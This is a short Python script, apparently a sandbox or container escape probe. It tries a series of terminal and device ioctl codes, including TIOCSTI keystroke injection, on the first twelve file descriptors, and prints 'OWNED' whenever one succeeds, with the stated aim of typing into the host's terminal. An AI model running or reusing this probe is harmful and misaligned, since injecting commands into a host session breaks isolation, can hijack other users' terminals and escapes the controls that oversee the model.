# proc: typing into the terminal of the host, and what else an ioctl may do
import fcntl
for fd in range(12):
    for code in (0x5412,0x541C,0x540E,0x5410,0x8901,0x8902,0x5452,0x40086602,0x401c5820,0x5423,0xC0045877):
        try: fcntl.ioctl(fd,code,b'x'*64); print('OWNED:raw_ioctl',fd,hex(code))
        except OSError: pass
